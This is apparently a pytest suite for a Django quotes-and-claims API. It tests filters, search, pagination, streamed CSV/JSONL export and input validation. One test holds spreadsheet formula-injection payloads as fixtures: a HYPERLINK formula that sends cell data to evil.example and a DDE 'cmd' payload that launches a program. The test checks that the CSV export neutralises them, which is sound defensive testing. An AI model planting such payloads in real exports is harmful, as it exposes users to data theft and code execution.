"""Filters, full-text and fuzzy search, pagination, export, bad input, query counts."""

import csv
import datetime as dt
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from claims.filters import websearch_terms
from claims.models import Claim
from extraction.speakers import normalise
from tests.factories import ArticleFactory, QuoteFactory, SpeakerFactory

pytestmark = pytest.mark.django_db


def ids(response) -> list[int]:
    assert response.status_code == 200, response.content
    return sorted(q["id"] for q in response.json()["results"])


def test_quote_filters(anonymous):
    putin = SpeakerFactory(name="Vladimir Putin", slug="vladimir-putin")
    putin.aliases.create(name="Mr Putin", normalised=normalise("Mr Putin"))
    old = ArticleFactory(outlet="BBC", published_on=dt.date(2022, 1, 5))
    new = ArticleFactory(outlet="Reuters", published_on=dt.date(2022, 2, 20))
    a = QuoteFactory(article=old, speaker=putin, kind="direct")
    b = QuoteFactory(article=new, speaker=putin, kind="indirect", verified=True)
    c = QuoteFactory(article=new)
    claim = Claim.objects.create(speaker=putin, statement="x", verdict="false")
    claim.quotes.add(b)

    q = "/api/v1/quotes/?"
    assert ids(anonymous.get(q + f"speaker={putin.pk}")) == [a.pk, b.pk]
    assert ids(anonymous.get(q + "speaker=vladimir-putin")) == [a.pk, b.pk]
    assert ids(anonymous.get(q + "speaker=Mr. Putin")) == [a.pk, b.pk]
    assert ids(anonymous.get(q + "speaker=nobody")) == []
    assert ids(anonymous.get(q + f"article={new.pk}")) == [b.pk, c.pk]
    assert ids(anonymous.get(q + "outlet=bbc")) == [a.pk]
    assert ids(anonymous.get(q + "kind=direct")) == [a.pk]
    assert ids(anonymous.get(q + "published_after=2022-02-01")) == [b.pk, c.pk]
    assert ids(
        anonymous.get(
            q + "speaker=vladimir-putin&published_after=2022-01-01&published_before=2022-01-31"
        )
    ) == [a.pk]
    assert ids(anonymous.get(q + "verdict=false")) == [b.pk]
    assert ids(anonymous.get(q + "verified=true")) == [b.pk]


def test_full_text_search(anonymous):
    article = ArticleFactory(
        body="Russia said the drills were purely defensive. Nato warned of troops massing."
    )
    drills = QuoteFactory(article=article, content_start=0, length=45)
    troops = QuoteFactory(article=article, content_start=47, length=30)
    q = "/api/v1/quotes/?q="
    assert ids(anonymous.get(q + "drill")) == [drills.pk]  # stemmed on PostgreSQL
    assert ids(anonymous.get(q + "defensive drills")) == [drills.pk]
    assert ids(anonymous.get(q + "troops -drills")) == [troops.pk]
    assert ids(anonymous.get(q + '"purely defensive"')) == [drills.pk]
    assert anonymous.get(q + '"unbalanced (quote').status_code == 200


def test_fuzzy_speaker_search(anonymous, postgres):
    jens = SpeakerFactory(name="Jens Stoltenberg", slug="jens-stoltenberg")
    jens.aliases.create(name="Jens Stoltenberg", normalised=normalise("Jens Stoltenberg"))
    SpeakerFactory(name="Emmanuel Macron")
    found = anonymous.get("/api/v1/speakers/?q=Stoltenburg").json()["results"]
    assert [s["slug"] for s in found] == ["jens-stoltenberg"]
    assert anonymous.get("/api/v1/speakers/?q=stolt").json()["results"][0]["slug"] == jens.slug


def test_nested_lists(anonymous):
    quote = QuoteFactory()
    QuoteFactory()
    by_speaker = anonymous.get(f"/api/v1/speakers/{quote.speaker.slug}/quotes/")
    assert ids(by_speaker) == [quote.pk]
    by_article = anonymous.get(f"/api/v1/articles/{quote.article_id}/quotes/")
    assert ids(by_article) == [quote.pk]


def test_cursor_pages_are_stable_while_quotes_arrive(anonymous):
    QuoteFactory.create_batch(30)
    first = anonymous.get("/api/v1/quotes/?page_size=10").json()
    QuoteFactory.create_batch(5)  # newer quotes arrive between two pages
    second = anonymous.get(first["next"]).json()
    seen = [q["id"] for q in first["results"] + second["results"]]
    assert len(set(seen)) == 20 and seen == sorted(seen, reverse=True)


def test_export_streams_every_matching_quote(anonymous):
    quotes = QuoteFactory.create_batch(3, kind="direct")
    QuoteFactory(kind="indirect")
    jsonl = anonymous.get("/api/v1/quotes/export.jsonl?kind=direct")
    assert jsonl.streaming and jsonl["Content-Type"] == "application/x-ndjson"
    rows = [json.loads(line) for line in b"".join(jsonl.streaming_content).decode().splitlines()]
    assert sorted(r["id"] for r in rows) == sorted(q.pk for q in quotes)
    exported = anonymous.get("/api/v1/quotes/export.csv?kind=direct")
    table = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert len(table) == 3 and table[0]["text"] and table[0]["speaker_slug"]


def test_csv_export_neutralises_formulas(anonymous):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    article = ArticleFactory(
        body=formula + " said the page.", title="+cmd|' /C calc'!A0", outlet="@SUM(1+1)"
    )
    speaker = SpeakerFactory(name="-2+3", slug="minus")
    QuoteFactory(
        article=article, speaker=speaker, length=len(formula), mention="\tTab", cue="\rsaid"
    )
    exported = anonymous.get("/api/v1/quotes/export.csv")
    (row,) = csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode()))
    assert row["text"] == "'" + formula
    assert row["article_title"] == "'+cmd|' /C calc'!A0"
    assert row["outlet"] == "'@SUM(1+1)"
    assert row["speaker"] == "'-2+3"
    assert row["mention"] == "'\tTab" and row["cue"] == "'\rsaid"
    assert row["speaker_slug"] == "minus" and row["confidence"] == "1.0"
    # JSON Lines are data, not a spreadsheet: kept as they are
    jsonl = anonymous.get("/api/v1/quotes/export.jsonl")
    assert json.loads(b"".join(jsonl.streaming_content))["text"] == formula


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/quotes/?cursor=not-a-cursor",
        "/api/v1/quotes/?published_after=yesterday",
        "/api/v1/quotes/?kind=shouted",
        "/api/v1/quotes/?verdict=maybe",
        "/api/v1/quotes/?article=abc",
        "/api/v1/articles/?status=lost",
        "/api/v1/quotes/?page_size=abc",
    ],
)
def test_bad_filters_and_cursors_are_4xx_with_a_message(anonymous, url):
    response = anonymous.get(url)
    assert 400 <= response.status_code < 500 and response.json()


def test_bad_bodies_are_4xx_never_500(editor, settings):
    quote = QuoteFactory()
    url = f"/api/v1/quotes/{quote.pk}/"
    malformed = editor.generic("PATCH", url, "{not json", content_type="application/json")
    assert malformed.status_code == 400 and "JSON parse error" in malformed.json()["detail"]
    unknown = editor.patch(url, {"colour": "red"}, format="json")
    assert unknown.status_code == 400 and unknown.json() == {"colour": ["Unknown field."]}
    nothing = editor.patch(url, {"note": "only a note"}, format="json")
    assert nothing.status_code == 400 and "Nothing to change" in str(nothing.json())
    settings.API_MAX_BODY_BYTES = 1000
    big = editor.post("/api/v1/articles/", {"text": "x" * 5000}, format="json")
    assert big.status_code == 413 and "limit of 1,000 bytes" in big.json()["detail"]
    wrong_type = editor.patch(url, {"content_start": "a", "content_end": []}, format="json")
    assert wrong_type.status_code == 400
    not_a_list = editor.post(
        "/api/v1/claims/", {"statement": "x", "speaker": "nobody", "quotes": 5}, format="json"
    )
    assert not_a_list.status_code in (400, 403)


def test_list_queries_do_not_grow_with_page_size(anonymous):
    quotes = QuoteFactory.create_batch(100)
    claim = Claim.objects.create(speaker=quotes[0].speaker, statement="x")
    claim.quotes.add(*quotes[:50])

    def queries(url: str) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert anonymous.get(url).status_code == 200
        return len(captured)

    for base in ("/api/v1/quotes/", "/api/v1/articles/", "/api/v1/speakers/", "/api/v1/claims/"):
        small, large = queries(f"{base}?page_size=10"), queries(f"{base}?page_size=100")
        assert small == large, base


@pytest.mark.parametrize(
    ("q", "terms"),
    [
        ("troops -drills", [[("troops", False), ("drills", True)]]),
        ('"purely  defensive" nato', [[("purely defensive", False), ("nato", False)]]),
        ('"unclosed (quote', [[("unclosed (quote", False)]]),
        ("putin or -macron biden", [[("putin", False)], [("macron", True), ("biden", False)]]),
        ('or - "" or', []),
    ],
)
def test_websearch_syntax_is_read_the_same_way_without_postgresql(q, terms):
    assert websearch_terms(q) == terms


def test_filters_are_not_shared_between_requests(anonymous):
    """The filter sets copy their filters shallowly (api.filtering): each request's
    values and method filters stay its own."""
    article = ArticleFactory(body="Russia said the drills were purely defensive. Nato agreed.")
    drills = QuoteFactory(article=article, content_start=0, length=45, kind="direct")
    nato = QuoteFactory(article=article, content_start=46, length=11, kind="indirect")
    for _ in range(2):
        assert ids(anonymous.get("/api/v1/quotes/?q=drills")) == [drills.pk]
        assert ids(anonymous.get(f"/api/v1/quotes/?article={article.pk}&kind=indirect")) == [
            nato.pk
        ]
        assert ids(anonymous.get(f"/api/v1/quotes/?speaker={nato.speaker.slug}")) == [nato.pk]
        assert anonymous.get("/api/v1/quotes/?article=abc").status_code == 400


def test_filter_forms_check_what_is_named_and_the_browsable_api_shows_every_filter(anonymous):
    bad = anonymous.get("/api/v1/quotes/?kind=bogus&published_after=soon&q=x")
    assert bad.status_code == 400
    assert set(bad.json()) == {"kind", "published_after"}
    page = anonymous.get("/api/v1/quotes/?kind=direct", HTTP_ACCEPT="text/html")
    assert page.status_code == 200
    html = page.content.decode()
    for name in ("speaker", "published_after", "published_before", "verdict", "q", "kind"):
        assert f'name="{name}"' in html


def test_an_export_row_carries_every_column_of_its_quote(anonymous):
    article = ArticleFactory(
        body="The mayor said the bridge is safe.",
        title="Bridge",
        outlet="Gazette",
        url="https://example.org/bridge",
        published_on=dt.date(2016, 9, 12),
    )
    speaker = SpeakerFactory(name="Walter Pembrook", slug="walter-pembrook")
    quote = QuoteFactory(
        article=article, speaker=speaker, length=9, mention="The mayor", cue="said"
    )
    unattributed = QuoteFactory(article=ArticleFactory(), speaker=None)
    exported = anonymous.get("/api/v1/quotes/export.jsonl")
    rows = {
        r["id"]: r
        for r in (json.loads(line) for line in b"".join(exported.streaming_content).splitlines())
    }
    assert rows[quote.pk] == {
        "id": quote.pk,
        "text": "The mayor",
        "kind": quote.kind,
        "speaker_id": speaker.pk,
        "speaker": "Walter Pembrook",
        "speaker_slug": "walter-pembrook",
        "mention": "The mayor",
        "cue": "said",
        "article_id": article.pk,
        "article_title": "Bridge",
        "outlet": "Gazette",
        "published_on": "2016-09-12",
        "source_url": "https://example.org/bridge",
        "content_start": 0,
        "content_end": 9,
        "confidence": 1.0,
        "origin": quote.origin,
        "verified": False,
    }
    assert (
        rows[unattributed.pk]["speaker"] is None and rows[unattributed.pk]["published_on"] is None
    )
